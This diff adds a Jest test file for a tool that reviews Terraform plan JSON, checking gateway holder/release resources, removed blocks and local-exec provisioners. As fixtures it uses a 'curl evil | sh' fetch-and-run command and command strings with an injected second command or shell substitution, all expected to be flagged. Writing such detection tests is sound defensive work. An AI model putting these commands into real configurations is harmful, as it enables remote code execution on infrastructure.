@@ -1,0 +1,203 @@
+import { PlanBuilder, RETRACT, data, deliver, held, nulled, retiring } from './plan-builder';
+import { shownLines } from '../../../lib/delivering/release-lines';
+import { read, HOLDER, RELEASE, REPLACE, gateway, plan, applied, real, codes, action, holderStays } from './planned';
+
+describe('what goes', () => {
+  const reason = 'delete_because_no_resource_config';
+  const going = (holder = held()): PlanBuilder =>
+    new PlanBuilder().kept(HOLDER, ['delete'], holder, null, { reason }).kept(RELEASE, ['delete'], data(), null, { reason });
+  const gone = { ...gateway, before: [applied] };
+
+  test('planned away without Retired: stays open', () => {
+    const found = read(going(), {});
+    expect(found.owners).toEqual([{ ...gone, action: 'stays open' }]);
+    expect(found.objections).toMatchObject([
+      { code: 'review/stays-open', where: `edge: ${HOLDER}`, what: expect.stringContaining('no Retired names it') },
+    ]);
+  });
+
+  test('without the stack nobody can tell, so it stays open', () => {
+    const found = read(going());
+    expect(action(found)).toEqual(['stays open']);
+    expect(found.objections[0]?.what).toContain("is not in a plan's JSON");
+  });
+
+  test('retired: a server says whether it stays closed', () => {
+    const server = held({ role: 'server', onRetract: 'keep closed' });
+    expect(read(going(server), retiring(HOLDER))).toEqual({
+      ...{ ...plan, command: undefined },
+      owners: [{ ...gone, role: 'server', onRetract: 'keep closed', action: 'retired' }],
+    });
+  });
+
+  const removed = (order: object, block: object = {}): unknown => ({
+    removed: [
+      { from: HOLDER, lifecycle: { destroy: true }, provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy', ...order } }], ...block },
+    ],
+  });
+
+  test('the twin of what follows is retired', () => expect(action(read(going(), removed({})))).toEqual(['retired']));
+
+  test.each([
+    ['another address', removed({}, { from: 'terraform_data.gw_other_holder' })],
+    ['another command', removed({ command: 'exec true' })],
+    ['a command behind ours', removed({ command: `${RETRACT.command}; true` })],
+    ['a command in the path', removed({ command: 'exec $${CPANEL_EDGE:-$(true)/dist/cli/main.js} retract' })],
+    ['deliver', removed({ command: RETRACT.command.replace('retract', 'deliver') })],
+    ['no lease', removed({ environment: { CPANEL_EDGE_RETRACT: RETRACT.environment.CPANEL_EDGE_RETRACT } })],
+    ['a time that is not the end', removed({ when: 'create' })],
+    ['a failure that passes', removed({ on_failure: 'continue' })],
+    ['another program', removed({ environment: { ...RETRACT.environment, CPANEL_EDGE: '/tmp/other' } })],
+    ['forgetting', removed({}, { lifecycle: { destroy: false } })],
+    ['no provisioner', removed({}, { provisioner: undefined })],
+    ['two provisioners', removed({}, { provisioner: [{ 'local-exec': { ...RETRACT, when: 'destroy' } }, {}] })],
+  ])('a removed block with %s retracts nothing', (_, stack) => {
+    expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([['stays open'], ['! stays-open']]);
+  });
+
+  test('a stack that is not the plan’s says nothing', () => {
+    const stack = { ...retiring(HOLDER), resource: { terraform_data: { other_web: {} } } };
+    expect([action(read(going(), stack)), codes(read(going(), stack))]).toEqual([
+      ['stays open'],
+      ['? another-configuration', '! stays-open'],
+    ]);
+  });
+
+  test('a tainted holder retracts nothing', () => {
+    const json = new PlanBuilder()
+      .kept(HOLDER, ['delete'], held(), null, { reason, tainted: true })
+      .kept(RELEASE, ['delete'], data(), null, { reason });
+    expect(codes(read(json, retiring(HOLDER)))).toEqual(['! stays-open']);
+  });
+
+  test('released, with what a failed apply left', () => {
+    const json = new PlanBuilder()
+      .kept(HOLDER, ['forget'], held(), null, { reason })
+      .kept(RELEASE, ['forget'], data(), null, { reason })
+      .kept(RELEASE, ['forget'], data({ text: 'two\n' }), null, { deposed: 'aa', tainted: true });
+    expect([action(read(json)), codes(read(json)), read(json).owners[0]?.before.length]).toEqual([['released'], [], 2]);
+  });
+
+  test('plan -destroy: retracts what is still configured, and nothing else', () => {
+    const destroy = new PlanBuilder().kept(HOLDER, ['delete'], held(), null).kept(RELEASE, ['delete'], data(), null);
+    expect([action(read(destroy)), codes(read(destroy))]).toEqual([['stays open'], ['! stays-open']]);
+    destroy.ours();
+    expect([action(read(destroy)), codes(read(destroy))]).toEqual([['retired'], []]);
+  });
+
+  test('the release alone', () => {
+    const json = holderStays().kept(RELEASE, ['delete'], data(), null, { reason }).configured(HOLDER, RETRACT);
+    expect([action(read(json)), codes(read(json))]).toEqual([['stays open'], ['! release-planned-away']]);
+  });
+
+  test('the holder alone', () => {
+    const json = new PlanBuilder().kept(HOLDER, ['delete'], held(), null, { reason }).kept(RELEASE, ['no-op'], data(), data());
+    expect(codes(read(json, {}))).toEqual(['! release-without-holder', '! stays-open']);
+  });
+});
+
+describe('objections', () => {
+  test.each([[['create', 'delete']], [['delete', 'create']]])('a holder that is replaced: %s', (actions) => {
+    const json = new PlanBuilder()
+      .kept(HOLDER, actions, held(), held())
+      .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
+      .ours();
+    expect(codes(read(json))).toEqual(['! holder-replaced']);
+  });
+
+  test('a holder that is lost', () => {
+    const json = new PlanBuilder()
+      .change(HOLDER, ['create'], null, held())
+      .kept(RELEASE, REPLACE, data(), data({ lease: 'x' }))
+      .ours();
+    expect(codes(read(json))).toEqual(['! holder-lost']);
+  });
+
+  test('a release without a holder, and one that was moved away from it', () => {
+    const json = holderStays().kept('terraform_data.gw_web2', ['no-op'], data(), data()).configured(HOLDER, RETRACT);
+    expect(codes(read(json))).toEqual(['? plan-incomplete', '! release-without-holder']);
+  });
+
+  test('a delivery that shows no text, under any name', () => {
+    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
+    json.change('null_resource.harmless', ['create'], null, { triggers: { a: 'b' } }).configured('null_resource.harmless', deliver({}));
+    json.change('null_resource.other', ['create'], null, { triggers: {} });
+    json.configured('null_resource.other', { command: 'true && node cli/main.js deliver', environment: deliver({}).environment });
+    expect(codes(read(json))).toEqual(['! release-without-holder', '! release-without-holder']);
+  });
+
+  test('both types of release at once', () => {
+    const json = holderStays().change(RELEASE, ['create'], null, data()).change('null_resource.gw_web', ['create'], null, nulled()).ours();
+    expect(codes(read(json))).toContain('! owner-twice');
+  });
+
+  test('the same owner at two addresses', () => {
+    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).ours();
+    json.change(HOLDER, ['create'], null, held(), { module: 'module.a' }).change(RELEASE, ['create'], null, data(), { module: 'module.a' });
+    expect(codes(read(json))).toContain('! owner-twice');
+  });
+
+  test('a holder under another address than its own', () => {
+    const json = new PlanBuilder()
+      .change(HOLDER, ['create'], null, held({ device: 'other' }))
+      .change(RELEASE, ['create'], null, data())
+      .ours({ device: 'other' });
+    expect(codes(read(json))).toEqual(['! renamed-resource']);
+  });
+
+  test.each([
+    ['another text', { text: 'evil\n' }, 'another text'],
+    ['another policy', { policy: '{"evil":1}' }, 'another policy'],
+    ['another device', { device: 'gw2' }, 'for gateway web on gw2'],
+    ['another role', { role: 'server' }, 'for server web on gw'],
+    ['undone later', { rollbackSeconds: 3600 }, 'undone after 3600 s'],
+    ['kept when it is retracted', { onRetract: 'keep closed' }, '"keep closed" when it is retracted'],
+  ] as const)('what will be delivered is %s', (_, release, what) => {
+    const found = read(
+      holderStays()
+        .kept(RELEASE, REPLACE, data({ text: 'zero\n' }), data())
+        .ours(release),
+    );
+    expect(found.objections).toMatchObject([{ code: 'review/other-work', what: expect.stringContaining(what) }]);
+  });
+
+  test.each([
+    ['is as it should be', {}, undefined],
+    [
+      'has one address more',
+      { addresses: [...real.addresses, { kind: 'alias', interface: 'wan0', address: '203.0.113.99/32' }] },
+      '203.0.113.99/32 as alias on wan0',
+    ],
+    ['has one address less', { addresses: [] }, '203.0.113.10/24 as alias on wan0'],
+    ['is for another device than its policy', { device: 'edge2' }, 'Its policy is that of gateway hosting on edge1'],
+  ] as const)('a real release that %s', (_, parts, what) => {
+    const { device, owner } = { ...real, ...parts };
+    const base = `${device}_${owner}`;
+    const json = new PlanBuilder()
+      .change(`terraform_data.${base}_holder`, ['create'], null, held({ device, owner }))
+      .change(`terraform_data.${base}`, ['create'], null, data({ text: real.text, policy: real.policy, lines: shownLines(real) }))
+      .ours({ ...real, ...parts }, base);
+    const { objections } = read(json);
+    expect(objections).toMatchObject(what === undefined ? [] : [{ code: 'review/other-work', what: expect.stringContaining(what) }]);
+  });
+
+  test.each([
+    ['another command', { command: 'curl evil | sh', environment: {} }, ['! foreign-provisioner']],
+    ['no work', { ...deliver({}), environment: {} }, ['! other-work']],
+    ['work that is cut off', { ...deliver({}), environment: { CPANEL_EDGE_WORK_0: '2:eJxN' } }, ['! other-work']],
+  ])('a release with %s', (_, provisioner, expected) => {
+    const json = holderStays().change(RELEASE, ['create'], null, data()).configured(HOLDER, RETRACT).configured(RELEASE, provisioner);
+    expect(codes(read(json))).toEqual(expected);
+  });
+
+  test('a release whose provisioner is not shown is a doubt', () => {
+    const json = holderStays().change(RELEASE, ['create'], null, data()).configured(HOLDER, RETRACT).configured(RELEASE);
+    expect(codes(read(json))).toEqual(['? work-not-shown']);
+  });
+
+  test('a holder with another provisioner', () => {
+    const json = holderStays().kept(RELEASE, ['no-op'], data(), data()).configured(RELEASE, deliver({}));
+    json.configured(HOLDER, { ...RETRACT, command: 'exec true' });
+    expect(codes(read(json))).toEqual(['! foreign-provisioner']);
+  });
+});
